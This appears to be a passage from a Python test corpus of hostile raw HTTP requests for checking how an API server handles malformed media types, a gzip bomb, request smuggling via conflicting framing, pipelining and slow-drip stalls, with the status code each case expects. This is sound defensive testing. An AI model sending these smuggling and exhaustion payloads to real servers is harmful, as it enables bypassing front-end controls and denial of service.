    declared("with an empty charset", b"application/json; charset=", 415, "C5"),
    declared("with two charsets", b"application/json; charset=utf-8; charset=utf-16", 415, "C5"),
    declared("with two charsets, the good one last", b"application/json; charset=utf-16; charset=utf-8", 415, "C5"),
    declared("with another charset and spaces", b"application/json; charset = utf-16", 415, "C5"),
    declared("with another charset and a tab", b"application/json; charset\t=utf-16", 415, "C5"),
    declared("with a charset in half a quote", b'application/json; charset="utf-8', UNREADABLE, "C5"),
    declared("with a parameter in quotes", b'application/json; "charset=utf-8"', UNREADABLE, "C5"),
    declared("with a space that does not break", b"application/json\xa0", 415, "C1"),
    declared("with a next line", b"application/json\x85; charset=utf-8", 415, "C1"),
    declared("with a NUL", b"application/json\x00", 400),
    declared("with words after it", b"application/json @mark@", 415),
    declared("with a letter after it", b"application/jsonx", 415),
    declared("with a letter before it", b"xapplication/json", 415),
    declared("with spaces inside", b"application / json", 415),
    declared("any", b"*/*", 415),
    declared("any JSON", b"application/*+json", 415),
    declared("a patch", b"application/merge-patch+json", 415),
    declared("a patch in mixed case", b"Application/Merge-Patch+JSON", 415, "C1"),
    declared("a problem", b"application/problem+json", 415),
    declared("JSON of somebody", b"application/vnd.@mark@+json", 415),
    declared("JSON of old", b"text/json", 415),
    declared("text", b"text/plain", 415, "C15"),
    declared("bytes", b"application/octet-stream", 415, "C15"),
    declared("YAML", b"application/yaml", 415, "C15"),
    declared("one word", b"json", 415),
    declared("a slash", b"/", 415),
    declared("beyond ASCII", b"\xe9/\xe9@mark@", 415, "C5"),
    declared("of 8,000 letters", b"a/" + b"a" * 8_000, 415, "C12"),
    typed("XML", b"Content-Type: application/xml\r\n", 415, "C15", body=b"<x>@mark@</x>"),
    typed("a form", b"Content-Type: application/x-www-form-urlencoded\r\n", 415, "C14", "C15", body=b"@member@=@mark@"),
    typed("a form in parts", b"Content-Type: multipart/form-data; boundary=x\r\n", 415, "C14", "C15", body=FORM),
    typed("a form without its boundary", b"Content-Type: multipart/form-data\r\n", 415, "C14", "C15", body=FORM),
    typed("compressed", JSON + b"Content-Encoding: gzip\r\n", 415, "C12", body=gzip.compress(b"{}", mtime=0)),
    typed("a bomb", JSON + b"Content-Encoding: gzip\r\n", 415, "C12", body=gzip.compress(b" " * 10_000_000, mtime=0)),
    typed("compressed, it says", JSON + b"Content-Encoding: br\r\n", 415, "C12"),
    typed("compressed in mixed case", JSON + b"Content-Encoding: GZip\r\n", 415, "C12"),
    typed("compressed twice", JSON + b"Content-Encoding: gzip\r\nContent-Encoding: gzip\r\n", 400, "C20"),
    typed("compressed as itself", JSON + b"Content-Encoding: Identity\r\n", 200),
    typed("compressed as itself and more", JSON + b"Content-Encoding: identity, gzip\r\n", 415, "C12"),
    case(
        "type: XML of no bytes",
        ACT + b"Content-Type: text/xml\r\nContent-Length: 0\r\n\r\n",
        200,
        "C4",
        actions=1,
        carries=b"",
    ),
    typed("with a key to repeat by, twice", JSON + b"Idempotency-Key: a\r\nIdempotency-Key: b\r\n", 400, "C20"),
)

SMUGGLED = ACT + b"X: @mark@\r\n\r\n"
"""An action that hides in the body of another request."""
READ_AND_STAY = READ.replace(CLOSE, b"") + b"\r\n"
BAD_PATH = b"GET /@read@ HTTP/1.1\r\n" + HOST + KEY + b"\r\n"
UPGRADE = b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
CONTINUE = b"Expect: 100-continue\r\n"
TOO_MUCH = b"Content-Length: 70000\r\n\r\n"
NINE = b"Content-Length: 9\r\n\r\n"

PIPELINES = (
    case("pipeline: good, good", GOOD + GOOD, (200, 200), actions=2),
    case("pipeline: good, a bad path", GOOD + BAD_PATH, (200, 400), "C7", actions=1),
    case("pipeline: a bad path, good", BAD_PATH + GOOD, (400, 200), "C7", actions=1),
    case("pipeline: without a key, good", GOOD.replace(KEY, b"") + GOOD, (401, 200), actions=1),
    case("pipeline: of another type, good", GOOD.replace(b"/json", b"/xml") + GOOD, (415, 200), "C15", actions=1),
    case("pipeline: another host, good", GOOD.replace(HOST, b"Host: evil.test\r\n") + GOOD, (421, 200), actions=1),
    case("pipeline: another method, good", GOOD.replace(b"POST", b"PUT") + GOOD, (405, 200), "C10", actions=1),
    case("pipeline: good, garbage", GOOD + b"@mark@\r\n\r\n", (200, 400), actions=1),
    case("pipeline: good, an unknown method", GOOD + GOOD.replace(b"POST", b"POSTX"), (200, 400), actions=1),
    case("pipeline: good, two framings", GOOD + ACT + b"Content-Length: 2\r\n" + CHUNKED + LAST, (200, 400), actions=1),
    case("pipeline: a read, garbage", READ_AND_STAY + b"@mark@\r\n\r\n", (200, 400)),
    case("pipeline: garbage, good", b"@mark@\r\n\r\n" + GOOD, 400, closes=True),
    case("pipeline: the last one, another", ACT + b"\r\n" + GOOD, 200, actions=1, carries=b"", closes=True),
    case("pipeline: a read, and nothing more", READ + b"\r\n", frozenset({None, 200}), ending=Ending.HALF_CLOSES),
    case("pipeline: forty reads", READ_AND_STAY * 40, (200,) * 40),
    case("pipeline: a line break after each", (GOOD + b"\r\n") * 3, (200, 200, 200), actions=3),
    case("pipeline: an action in a body that is too large", ACT_AND_STAY + JSON + SIZED + SMUGGLED * 400, 413, "C12"),
    case("pipeline: an action in the body of a read", READ_AND_STAY[:-2] + SIZED + SMUGGLED, 415, "C15"),
    case("pipeline: an action in the body of HEAD", b"HEAD" + READ_AND_STAY[3:-2] + SIZED + SMUGGLED, 415, "C9", "C15"),
    case("pipeline: an action in the body of OPTIONS", b"OPTIONS" + READ_AND_STAY[3:-2] + SIZED + SMUGGLED, 415, "C10"),
    case("pipeline: an action in a body of another type", ACT_AND_STAY + SIZED + SMUGGLED, 415, "C2"),
    case(
        "pipeline: an action after chunks that have a length too",
        ACT_AND_STAY + b"Content-Length: 400\r\n" + CHUNKED + LAST + SMUGGLED,
        400,
        closes=True,
    ),
    case(
        "pipeline: an action after chunks that nobody knows",
        ACT_AND_STAY + b"Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n" + LAST + SMUGGLED,
        400,
        closes=True,
    ),
    case(
        "pipeline: an action after a length with a space",
        ACT_AND_STAY + b"Content-Length : 5\r\n\r\n" + LAST + SMUGGLED,
        400,
        closes=True,
    ),
    case("pipeline: a body with Upgrade", ACT + UPGRADE + JSON + SIZED + b"@body@", 200, "C3", actions=1),
    case(
        "pipeline: a body in chunks with Upgrade",
        ACT + UPGRADE + JSON + CHUNKED + BODY + LAST,
        200,
        "C3",
        actions=1,
    ),
    case(
        "pipeline: an action in a late body with Upgrade",
        (ACT_AND_STAY + UPGRADE + JSON + SIZED, SMUGGLED),
        400,
        "C3",
        pause=0.1,
    ),
    case(
        "pipeline: in many pieces",
        (*ACT.splitlines(keepends=True), b"\r", b"\n"),
        200,
        actions=1,
        carries=b"",
        pause=0.01,
    ),
    case(
        "pipeline: a body that was asked for",
        (ACT + CONTINUE + JSON + SIZED, b"@body@"),
        (100, 200),
        actions=1,
        pause=0.1,
    ),
    case(
        "pipeline: a bad body that was asked for",
        (ACT + CONTINUE + JSON + SIZED, b"@mark@"),
        (100, 400),
        "C6",
        pause=0.1,
    ),
    case("pipeline: a body that is too large to be asked for", ACT + CONTINUE + JSON + TOO_MUCH, 413, "C12"),
    case(
        "pipeline: chunks that were asked for and are too large",
        (ACT + CONTINUE + JSON + CHUNKED, b"11170\r\n" + b" " * 70_000 + b"\r\n" + LAST),
        (100, 413),
        "C12",
        "C3",
        pause=0.1,
    ),
    case(
        "pipeline: HTTP/1.0 knows no asking",
        (ACT.replace(b"HTTP/1.1", b"HTTP/1.0") + CONTINUE + JSON + SIZED, b"@body@"),
        200,
        actions=1,
        pause=0.1,
    ),
)

DRIP = (b"x",) * 12
KILOBYTES = (b"x" * 8_192,) * 6
PAGE = b"GET /openapi.json HTTP/1.1\r\n" + HOST + b"\r\n"
"""Asks for much in few bytes."""


def stalled(
    name: str,
    content: bytes | tuple[bytes, ...],
    expected: Expected | tuple[Expected, ...],
    *findings: str,
    pause: float = 0.1,
    ending: Ending = Ending.READS,
) -> Hostile:
    """A client that does not go on, or not in time; the server ends the connection."""
    return case(f"stall: {name}", content, expected, *findings, pause=pause, ending=ending, closes=True)


def bodiless(name: str, fields: bytes, expected: Expected | tuple[Expected, ...], *findings: str) -> Hostile:
    """An action whose body is announced by these fields, and does not come, or not all of it."""
    return stalled(name, ACT + fields, expected, *findings)


STALLS = (
    stalled("nothing", b"", None),
    stalled("empty lines", b"\r\n\r\n", None),
    stalled("empty lines, one at a time", (b"\r\n",) * 12, None),
    stalled("half a method", b"G", 408),
    stalled("half a target", b"GET @base@", 408),
    stalled("a request line", b"GET @read@ HTTP/1.1\r\n", 408),
    stalled("a request line without a version", b"GET @read@\r\n", frozenset({400, 408})),
    stalled("half a name", b"GET @read@ HTTP/1.1\r\nHo", 408),
    stalled("half a value", b"GET @read@ HTTP/1.1\r\nHost: gate", 408),
    stalled("no end of the header section", READ, 408),
    stalled("half an end of the header section", READ + b"\r", 408),
    stalled("a name, one byte at a time", (READ, *DRIP), 408),
    stalled("a value, one byte at a time", (READ + b"X: ", *DRIP), 408),
    stalled("a target, one byte at a time", (b"GET @read@?", *DRIP), 408),
    stalled("fields, one at a time", (READ, *(b"X: y\r\n",) * 12), 408),
    stalled("a value without an end", (READ + b"X: ", *KILOBYTES), 431, "C12", pause=0.02),
    stalled("a name without an end", (READ, *KILOBYTES), 431, "C12", pause=0.02),
    stalled("fields without an end", (READ, *(b"X: " + b"y" * 8_192 + b"\r\n",) * 6), 431, "C12", pause=0.02),
    stalled("a target without an end", (b"GET @read@/", *KILOBYTES), 414, "C12", pause=0.02),
    bodiless("a body", JSON + NINE, 408, "C14"),
    bodiless("a body without a type", NINE, 408, "C14"),
    bodiless("a body of text", b"Content-Type: text/plain\r\nContent-Length: 9\r\n\r\n", 408, "C14"),
    bodiless("a form", b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\n", 408, "C14"),
    bodiless(
        "a form in parts", b"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 9\r\n\r\n", 408, "C14"
    ),
    bodiless("half a form in parts", b"Content-Type: multipart/form-data; boundary=x\r\n" + NINE + b"--x", 408, "C14"),
    bodiless("half a body", JSON + NINE + b"{", 408, "C14"),
    bodiless("all of a body but a byte", JSON + b"Content-Length: 3\r\n\r\n{}", 408, "C14"),
    bodiless("a body that is asked for", CONTINUE + JSON + NINE, (100, 408), "C14"),
    bodiless("chunks", JSON + CHUNKED, 408, "C3", "C14"),
    bodiless("half a size", JSON + CHUNKED + b"1", 408, "C3", "C14"),
    bodiless("half a chunk", JSON + CHUNKED + b"9\r\n{", 408, "C3", "C14"),
    bodiless("the last chunk", JSON + CHUNKED + BODY, 408, "C3", "C14"),
    bodiless("the last line break", JSON + CHUNKED + BODY + b"0\r\n", 408, "C3", "C14"),
    bodiless("the end of a trailer section", JSON + CHUNKED + BODY + b"0\r\nX: @mark@\r\n", 408, "C3", "C14"),
    bodiless("a chunk of 2^63 bytes", JSON + CHUNKED + b"7fffffffffffffff\r\n{}", WAITED_OR_REFUSED, "C12"),
    bodiless("a chunk of 2^64 bytes", JSON + CHUNKED + b"ffffffffffffffff\r\n{}", WAITED_OR_REFUSED, "C12"),
    bodiless("a size of zeros", JSON + CHUNKED + b"0" * 20_000, WAITED_OR_REFUSED, "C12"),
    bodiless("an extension without an end", JSON + CHUNKED + b"2;" + b"x" * 20_000, WAITED_OR_REFUSED, "C12"),
    stalled(
        "a trailer value without an end",
        (ACT + JSON + CHUNKED + b"0\r\nX: ", *KILOBYTES * 3),
        WAITED_OR_REFUSED,
        "C12",
        pause=0.02,
    ),
    stalled(
        "trailer fields without an end",
        (ACT + JSON + CHUNKED + b"0\r\n", *(b"X: y\r\n" * 1_000,) * 18),
        WAITED_OR_REFUSED,
        "C12",
        pause=0.02,
    ),
    stalled("a body without a key", ACT.replace(KEY, b"") + JSON + NINE, 408, "C14"),
    stalled("a body for a read", READ + NINE, 408, "C14", "C15"),
    stalled("a body, one byte at a time", (ACT + JSON + b"Content-Length: 90\r\n\r\n", *DRIP), 408, "C14"),
    stalled("chunks, one at a time", (ACT + JSON + CHUNKED, *(b"1\r\n \r\n",) * 12), 408, "C3", "C14"),
    stalled("trailer fields, one at a time", (ACT + JSON + CHUNKED + b"0\r\n", *(b"X: y\r\n",) * 12), 408, "C3", "C14"),
    stalled("a body, and would stay", ACT_AND_STAY + JSON + NINE + b"{", 408, "C14"),
    stalled(
        "a form in parts, and would stay", ACT_AND_STAY + b"Content-Type: multipart/form-data\r\n" + NINE, 408, "C14"
    ),
    stalled("chunks, and would stay", ACT_AND_STAY + JSON + CHUNKED, 408, "C3", "C14"),
    stalled("half a method after a read", READ_AND_STAY + b"G", (200, 408)),
    stalled("half a method a moment after a read", (READ_AND_STAY, b"G"), (200, 408)),
    stalled("half a body after a read", READ_AND_STAY + ACT + JSON + NINE + b"{", (200, 408), "C14"),
    stalled("nothing, and says so", b"", None, ending=Ending.HALF_CLOSES),
    stalled(
        "half a header section, and says so", b"GET @read@ HTTP/1.1\r\nHo", REFUSED_OR_CLOSED, ending=Ending.HALF_CLOSES
    ),
    stalled("half a body, and says so", ACT + JSON + NINE + b"{", REFUSED_OR_CLOSED, ending=Ending.HALF_CLOSES),
    stalled(
        "half a chunk, and says so", ACT + JSON + CHUNKED + b"9\r\n{", REFUSED_OR_CLOSED, ending=Ending.HALF_CLOSES
    ),
    stalled("nothing, and leaves", b"", None, ending=Ending.LEAVES),
    stalled("half a header section, and leaves", b"GET @read@ HTTP/1.1\r\nHo", None, ending=Ending.LEAVES),
    stalled("half a body, and leaves", ACT + JSON + NINE + b"{", None, "C14", ending=Ending.LEAVES),
    stalled("half a body, and is gone", ACT + JSON + NINE + b"{", None, "C14", ending=Ending.RESETS),
    stalled(
        "a form in parts, and is gone",
        ACT + b"Content-Type: multipart/form-data\r\n" + SIZED + FORM[:-9],
        None,
        "C14",
        ending=Ending.RESETS,
    ),
    stalled("three hundred questions, and is gone", PAGE * 300, None, ending=Ending.RESETS),
    case("stall: a hundred questions, answers read late", PAGE * 100, (200,) * 100, ending=Ending.IS_DEAF),
)
"""Clients that take their time. They are sent at the same time, or they would take it from the tests."""

CORPUS: Mapping[str, tuple[Hostile, ...]] = {
    "paths": PATHS,
    "targets": TARGETS,
    "request lines": LINES,
    "methods": METHODS,
    "ids": IDS,
    "hosts": HOSTS,
    "header fields": HEADERS,
    "keys": KEYS,
    "framing": FRAMING,
    "bodies": BODIES,
    "media types": MEDIA_TYPES,
    "pipelines": PIPELINES,
}
"""For every API."""

UNIFIED: Mapping[str, tuple[Hostile, ...]] = {"verbs": VERBS_AS_SEGMENTS, "parameters": PARAMETERS}
"""For the unified API only."""

ELSEWHERE: Mapping[str, str] = {
    "C11": "tests/edge/test_own_faults.py",
    "C13": "bench/targets.py",
    "C16": "tests/edge/test_own_faults.py",
    "C17": "tests/edge/test_own_faults.py",
    "C21": "bench/targets.py",
}
"""Findings that no request shows, and where they are held: what replies say, threads, templates, costs."""
